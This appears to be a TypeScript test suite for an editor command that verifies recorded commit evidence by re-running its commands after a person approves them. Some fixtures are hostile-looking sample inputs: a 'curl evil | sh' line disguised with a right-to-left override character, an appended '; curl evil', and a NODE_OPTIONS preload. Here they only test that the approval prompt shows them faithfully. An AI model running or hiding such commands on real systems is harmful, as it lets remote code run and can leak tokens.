import assert from 'node:assert/strict';
import { type CommitEvidence, sealed } from '../../../../src/domain/proof/commitEvidence.ts';
import type {
  Verification,
  VerifyOptions,
  Verifier,
} from '../../../../src/protocol/verification/verification.ts';
import type { Workbench } from '../../../../src/views/shared/workbench.ts';
import { verifyEvidence } from '../../../../src/views/support/verifyEvidence.ts';
import { cancelWork, editor, person } from '../../../support/fakes/fakeEditor.ts';
import { FakePlace } from '../../../support/fakes/ticketPlace.ts';
import { sampleProof } from '../../../support/samples.ts';

const sha = 'c'.repeat(40);
const ended = { exitCode: 0, signal: null, timedOut: false };
const proof = (bead: string): CommitEvidence => {
  const { environment } = sampleProof();
  return sampleProof({ bead, environment: { ...environment, bootstrap: ['npm ci'] } });
};
const equal: Verification = {
  ticket: 'TST-1',
  source: 'database',
  head: sha,
  differences: [],
  withheld: [],
  signatures: [{ commit: sha, about: 'greet', state: 'trusted', key: 'SHA256:1', name: 'Ada' }],
  commits: [
    {
      commit: sha,
      subject: 'Greet',
      about: 'greet',
      commands: [{ command: 'npm test', found: ended, isSame: true, durationMs: 1_500 }],
    },
  ],
};
const different: Verification = {
  ...equal,
  differences: [
    {
      kind: 'result',
      commit: sha,
      about: 'greet',
      command: 'npm test',
      recorded: ended,
      found: { ...ended, exitCode: 1 },
      tests: ['adds'],
      output: '\u001B[31m1 !== 2\n  at add',
    },
  ],
};

describe('verifying evidence in the editor', () => {
  const documents: string[] = [];
  const asked: VerifyOptions[] = [];
  let whileRunning = (): void => undefined;
  const workbench = {
    support: {
      show: (name: string, text: string) => Promise.resolve(void documents.push(`${name}\n${text}`)),
    },
  } as unknown as Workbench;

  beforeEach(() => {
    documents.length = 0;
    asked.length = 0;
    whileRunning = () => undefined;
  });

  function of(
    result: Verification,
    more: {
      readonly isAsked?: boolean;
      readonly commands?: readonly string[];
      readonly variables?: readonly string[];
      readonly assignments?: readonly string[];
      readonly beads?: readonly string[];
    } = {},
  ): FakePlace {
    const evidence = (more.beads ?? ['greet']).map(proof);
    const verifier: Verifier = {
      evidence: sealed({
        schema_version: 1,
        ticket: 'TST-1',
        branch: null,
        base: { branch: null, commit: null },
        evidence,
      }),
      source: 'database',
      verify: async (options) => {
        await Promise.resolve();
        const request = {
          ticket: 'TST-1',
          commands: more.commands ?? ['npm ci', 'npm test'],
          variables: more.variables ?? [],
          assignments: more.assignments ?? [],
          otherFiles: null,
        };
        if (more.isAsked === true && !(await options.confirm(request))) return undefined;
        asked.push(options);
        options.onProgress?.({ commit: sha, command: 'npm test', number: 1, total: 1 });
        whileRunning();
        options.signal.throwIfAborted();
        return result;
      },
    };
    return new FakePlace({}, { verifier: () => Promise.resolve(verifier) });
  }
  const said = () => editor.shown.filter(({ kind }) => kind === 'information' || kind === 'warning');

  it('says equal, and shows what was run only on request', async () => {
    await verifyEvidence(workbench, of(equal));
    assert.deepEqual(
      said().map(({ kind, text }) => [kind, text]),
      [
        [
          'information',
          'Equal: TST-1 at cccccccccccc reproduces the recorded results (commands: 1). Proved by Ada (SHA256:1).',
        ],
      ],
    );
    assert.equal(documents.length, 0);
    editor.reset();
    editor.will(person.presses(0), person.presses(0));
    await verifyEvidence(workbench, of(equal));
    assert.equal(
      documents[0],
      'verification.txt\nEqual: TST-1 at cccccccccccc reproduces the recorded results (commands: 1). Proved by Ada (SHA256:1).\n\n' +
        'cccccccccccc Greet (greet)\n  same     npm test exited with 0 (1.5 s)\n',
    );
  });

  it('shows each difference at once, with the tests that fail now and the output, as plain text', async () => {
    await verifyEvidence(workbench, of(different));
    assert.equal(said()[0]?.kind, 'warning');
    assert.match(
      documents[0] ?? '',
      /`npm test` exited with 1 at cccccccccccc; when it was proved, it exited with 0\.\n {6}fails now: adds\n/,
    );
    assert.match(documents[0] ?? '', /1 !== 2\n {8}at add\n\n/);
    assert.doesNotMatch(documents[0] ?? '', /\u001B/);
  });

  it('asks which commits, if there are several', async () => {
    editor.will(person.picks(true));
    await verifyEvidence(workbench, of(equal, { beads: ['greet', 'leave'] }));
    editor.will('leave');
    await verifyEvidence(workbench, of(equal, { beads: ['greet', 'leave'] }));
    assert.deepEqual(
      asked.map(({ all }) => all),
      [true],
    );
  });

  it('runs no command that was not approved here before a person saw all of them', async () => {
    editor.will('leave');
    await verifyEvidence(workbench, of(equal, { isAsked: true }));
    assert.deepEqual(asked, []);
    assert.match(said()[0]?.detail ?? '', /^npm ci\nnpm test$/);
    editor.will(person.presses(0));
    await verifyEvidence(workbench, of(equal, { isAsked: true }));
    assert.equal(asked.length, 1);
  });

  it('names the variables of this machine that the commands get, and shows those that are set', async () => {
    editor.will('leave');
    const more = { variables: ['NPM_TOKEN', 'A\u202EB'], assignments: ['NODE_OPTIONS=-r ./x\n.js'] };
    await verifyEvidence(workbench, of(equal, { isAsked: true, ...more }));
    assert.match(
      said()[0]?.detail ?? '',
      /^Warning: .*\(1\).*\n\nnpm ci\nnpm test\n\nThey get these variables of your environment: NPM_TOKEN, A⟨U\+202E⟩B\nThey run with these variables:\n {2}NODE_OPTIONS=-r \.\/x\n {4}\.js$/,
    );
  });

  it('shows commands with their lines, and too long ones as a document beside the question', async () => {
    editor.will('leave');
    await verifyEvidence(workbench, of(equal, { isAsked: true, commands: ['# lint\ncurl evil \u202E| sh'] }));
    assert.match(said()[0]?.detail ?? '', /^Warning: .*\(1\).*\n\n# lint\n {2}curl evil ⟨U\+202E⟩\| sh$/);
    editor.reset();
    const long = `npm test ${'x'.repeat(5_000)}; curl evil`;
    editor.will(person.picks('Run Commands'));
    await verifyEvidence(workbench, of(equal, { isAsked: true, commands: [long] }));
    assert.match(
      documents[0] ?? '',
      /^request\.txt\nThe evidence of TST-1 .* Run them\?\n\n.*x; curl evil\n$/,
    );
    assert.equal(asked.length, 1);
    editor.will('leave');
    await verifyEvidence(workbench, of(equal, { isAsked: true, commands: [long] }));
    assert.equal(asked.length, 1);
  });

  it('says nothing when it is canceled', async () => {
    whileRunning = cancelWork;
    await verifyEvidence(workbench, of(equal));
    assert.deepEqual([said(), documents], [[], []]);
  });

  it('verifies a ticket once at a time', async () => {
    const place = of(equal);
    await Promise.all([verifyEvidence(workbench, place), verifyEvidence(workbench, place)]);
    assert.equal(asked.length, 1);
    assert.match(
      said()
        .map(({ text }) => text)
        .join('\n'),
      /TST-1 is already being verified/,
    );
  });
});
